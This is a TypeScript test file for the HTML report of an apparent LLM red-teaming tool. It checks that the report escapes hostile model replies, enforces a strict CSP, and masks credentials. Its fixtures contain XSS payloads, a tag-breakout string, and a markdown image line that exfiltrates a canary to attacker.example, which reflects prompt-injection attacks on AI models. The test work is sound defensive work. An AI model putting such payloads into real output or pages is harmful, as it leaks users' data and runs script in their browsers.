import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { describe, it } from 'node:test';
import { escapeVisible } from '../../src/redteam/report/escape.ts';
import { MAX_SHOWN_CHARS, renderHtmlReport } from '../../src/redteam/report/html.ts';
import type { AttemptRecord, RunSummary } from '../../src/redteam/types.ts';
import { reportFixture } from './report-fixture.ts';

const cspOf = (html: string): string => {
  const m = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]*)">/);
  assert.ok(m, 'expected a CSP meta tag');
  return (m[1] ?? '').replaceAll('&#39;', "'");
};
const sha256 = (text: string) => `'sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}'`;

describe('renderHtmlReport', () => {
  const { summary, records } = reportFixture();
  const html = renderHtmlReport(summary, records);

  it('is one document with exactly one script, its own, allowed by hash and nothing else', () => {
    assert.match(html, /^<!doctype html>/);
    const scripts = [...html.matchAll(/<script\b[^>]*>([\s\S]*?)<\/script>/gi)];
    assert.equal(scripts.length, 1, 'only the report script is markup; hostile ones are text');
    const styles = [...html.matchAll(/<style\b[^>]*>([\s\S]*?)<\/style>/gi)];
    assert.equal(styles.length, 1);
    const csp = cspOf(html);
    assert.match(csp, /default-src 'none'/);
    assert.match(csp, /img-src data:(;|$)/);
    assert.ok(csp.includes(`script-src ${sha256(scripts[0]?.[1] ?? '')}`), `script hash not in CSP: ${csp}`);
    assert.ok(csp.includes(`style-src ${sha256(styles[0]?.[1] ?? '')}`), `style hash not in CSP: ${csp}`);
    assert.doesNotMatch(csp, /unsafe-inline|unsafe-eval|\*/);
  });

  it('names no remote resource in any attribute', () => {
    assert.doesNotMatch(html, /\b(?:src|href|action|data|poster|background)\s*=\s*["']?\s*(?:https?:|\/\/)/i);
    assert.doesNotMatch(html, /<(?:img|iframe|link|object|embed|image|meta http-equiv="refresh")\b/i);
    // hostile replies hold `onerror=` as escaped text; no real tag (raw `<`) may carry a handler
    assert.doesNotMatch(html, /<[a-z][^<>]*\son[a-z]+\s*=/i, 'no inline event handler survives');
    const style = html.match(/<style>([\s\S]*?)<\/style>/)?.[1] ?? '';
    assert.doesNotMatch(style, /url\(|@import/i, 'the style sheet fetches nothing');
  });

  it('shows hostile replies as text', () => {
    assert.ok(html.includes('&lt;script&gt;window.__pwned = &#39;script&#39;&lt;/script&gt;'));
    assert.ok(html.includes('![status](https://attacker.example/log?d=CANARY-7f3a)'), 'markdown stays text');
    assert.ok(html.includes('&lt;/pre&gt;&lt;/details&gt;&lt;/td&gt;'), 'a breakout attempt stays text');
  });

  it('draws invisible characters (ANSI, bidi, tag characters) as marked glyphs, never raw', () => {
    assert.doesNotMatch(html, /[\u0000-\u0008\u000B-\u001F\u007F\u202A-\u202E]|[\u{E0000}-\u{E007F}]/u);
    assert.ok(html.includes('<span class="ctl" title="U+001B">\u241B</span>[31mRED'));
    assert.ok(html.includes('title="U+202E"'));
    assert.ok(html.includes('title="U+E0041"'));
  });

  it('keeps ordinary text intact (near miss: < and & in a benign reply are not mangled)', () => {
    assert.equal(escapeVisible('a < b && c > d\n\tnext'), 'a &lt; b &amp;&amp; c &gt; d\n\tnext');
    assert.equal(escapeVisible('plain ascii, ünïcödé, 日本語, 😀'), 'plain ascii, ünïcödé, 日本語, 😀');
  });

  it('masks credentials in the target URL', () => {
    assert.ok(!html.includes('hunter2'));
    assert.ok(html.includes('http://***:***@127.0.0.1:8080/v1'));
  });

  it('carries the summary numbers, one section per probe and every attempt', () => {
    assert.match(html, /id="overall-rate">33\.3%</);
    assert.match(html, /id="overall-attempts">13</);
    assert.match(html, /id="overall-errored">1</);
    assert.equal([...html.matchAll(/<details class="probe"/g)].length, 3);
    assert.equal([...html.matchAll(/<tr class="attempt [a-z]+"/g)].length, 13);
    assert.equal([...html.matchAll(/<g class="bar"/g)].length, 3);
    assert.ok(html.includes('upstream unavailable (HTTP 502)'));
  });

  it('cuts a huge reply with a note, and is deterministic', () => {
    assert.ok(html.includes(`${25_000 - MAX_SHOWN_CHARS} more characters`));
    assert.ok(!html.includes('x'.repeat(MAX_SHOWN_CHARS + 1)));
    assert.equal(renderHtmlReport(summary, records), html);
  });

  it('names an error status once (near miss: a reason that already starts with it gets no suffix)', () => {
    const errored = records.find((r) => r.outcome === 'errored') as AttemptRecord;
    const out = renderHtmlReport(summary, [{ ...errored, reason: 'HTTP 502: upstream unavailable' }]);
    assert.ok(out.includes('HTTP 502: upstream unavailable</td>'));
    assert.ok(!out.includes('(HTTP 502)'));
  });

  it('survives odd input: an unknown outcome, a probe missing from the summary, nothing at all', () => {
    const odd = {
      ...(records[0] as AttemptRecord),
      probeId: 'x/"><script>alert(1)</script>',
      outcome: 'pwned"><script>' as AttemptRecord['outcome'],
      responses: ['\uD800 lone surrogate'],
    };
    const out = renderHtmlReport(summary, [...records, odd]);
    assert.equal([...out.matchAll(/<details class="probe"/g)].length, 4);
    assert.equal([...out.matchAll(/<script\b/gi)].length, 1);
    assert.ok(out.includes('title="U+D800"'));
    const empty: RunSummary = {
      ...summary,
      overall: { attempts: 0, breached: 0, resisted: 0, errored: 0, successRate: 0, ci95: [0, 0] },
      byCategory: {},
      byProbe: {},
    };
    const blank = renderHtmlReport(empty, []);
    assert.match(blank, /No categories\./);
    assert.match(blank, /id="overall-ci">–</);
  });
});
